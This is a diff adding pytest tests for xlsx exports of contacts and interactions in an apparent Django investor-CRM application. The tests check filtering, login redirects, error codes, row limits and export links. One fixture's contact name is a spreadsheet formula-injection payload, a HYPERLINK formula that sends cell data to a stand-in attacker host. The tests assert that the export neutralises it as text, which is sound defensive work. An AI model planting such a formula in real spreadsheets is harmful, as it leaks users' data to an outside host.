@@ -207,3 +207,94 @@ def test_report_counts_per_staff_and_month(client, bureau_user, district_user, i
     assert row["total"] == [1, 1, 0]
     own = activity_report(district_user, today.year)
     assert {r["user"] for r in own["staff"]} == {district_user}
+
+
+# ---- xlsx exports of contacts and interactions ----------------------------------------------
+
+
+def _sheet(resp):
+    assert resp.status_code == 200, resp.status_code
+    assert resp["Content-Type"].startswith("application/vnd.openxmlformats")
+    ws = load_workbook(BytesIO(resp.content)).active
+    return [list(r) for r in ws.iter_rows(values_only=True)]
+
+
+@pytest.fixture
+def crm(district_user, bureau_user, inv_a, inv_b):
+    ca = services.contact_create(
+        user=district_user,
+        investor=inv_a,
+        data={"name": '=HYPERLINK("http://evil.example/?x="&A1,"x")', "email": "a@example.com"},
+    )
+    cb = services.contact_create(user=bureau_user, investor=inv_b, data={"name": "Bob B"})
+    day = timezone.localdate() - dt.timedelta(days=3)
+    ia = services.interaction_log(
+        user=district_user,
+        investor=inv_a,
+        kind="visit",
+        date=day,
+        summary="+1 visit",
+        contacts=[ca],
+    )
+    ib = services.interaction_log(
+        user=bureau_user, investor=inv_b, kind="call", date=day, summary="call B"
+    )
+    return {"contacts": (ca, cb), "interactions": (ia, ib)}
+
+
+def test_contact_export_is_the_filtered_lists_contacts_written_as_text(client, bureau_user, crm):
+    ca, cb = crm["contacts"]
+    client.force_login(bureau_user)
+    rows = _sheet(client.get("/en/staff/investors/contacts.xlsx"))
+    assert rows[0][:4] == ["ID", "Investor ID", "Investor", "Name"]
+    assert sorted(r[0] for r in rows[1:]) == sorted([ca.pk, cb.pk])
+    # Filtered as the investor list: only the Taiwan investor's contact.
+    rows = _sheet(client.get("/en/staff/investors/contacts.xlsx?country=TW"))
+    assert [r[0] for r in rows[1:]] == [ca.pk]
+    row = rows[1]
+    assert row[1] == ca.investor_id
+    assert row[2] == "Investor of A"
+    assert row[3] == "'" + ca.name  # a formula typed by a user stays text
+    assert row[5] == "a@example.com"
+
+
+def test_interaction_export_is_the_filtered_lists_interactions(client, district_user_b, crm):
+    ia, ib = crm["interactions"]
+    # District staff of another region read the city-wide database, exports included.
+    client.force_login(district_user_b)
+    rows = _sheet(client.get("/zh-hans/staff/investors/interactions.xlsx"))
+    assert sorted(r[0] for r in rows[1:]) == sorted([ia.pk, ib.pk])
+    rows = _sheet(client.get("/en/staff/investors/interactions.xlsx?q=of+A"))
+    assert len(rows) == 2
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["ID"] == ia.pk
+    assert row["Kind"] == "Visit"
+    assert row["Investor"] == "Investor of A"
+    assert row["Summary"] == "'+1 visit"
+    assert row["Contacts"] == "'" + crm["contacts"][0].name
+    assert row["Date"].date() == ia.date
+
+
+def test_related_exports_refuse_a_bad_filter_and_anonymous(client, bureau_user, crm):
+    for url in ("/en/staff/investors/contacts.xlsx", "/en/staff/investors/interactions.xlsx"):
+        resp = client.get(url)
+        assert resp.status_code == 302
+        assert "/accounts/login/" in resp["Location"]
+    client.force_login(bureau_user)
+    assert client.get("/en/staff/investors/contacts.xlsx?owner_region=999999").status_code == 400
+    assert client.get("/en/staff/investors/interactions.xlsx?sort=nope").status_code == 400
+
+
+def test_related_exports_stop_at_the_direct_limit(client, bureau_user, crm, settings):
+    settings.EXPORT_DIRECT_MAX_ROWS = 1
+    client.force_login(bureau_user)
+    resp = client.get("/en/staff/investors/contacts.xlsx?channel=")
+    assert resp.status_code == 302
+    assert resp["Location"].startswith("/en/staff/investors/")
+
+
+def test_list_page_offers_the_related_exports_with_its_filters(client, office110_user, crm):
+    client.force_login(office110_user)
+    body = client.get("/en/staff/investors/?country=TW").content.decode()
+    assert 'href="/en/staff/investors/contacts.xlsx?country=TW"' in body
+    assert 'href="/en/staff/investors/interactions.xlsx?country=TW"' in body
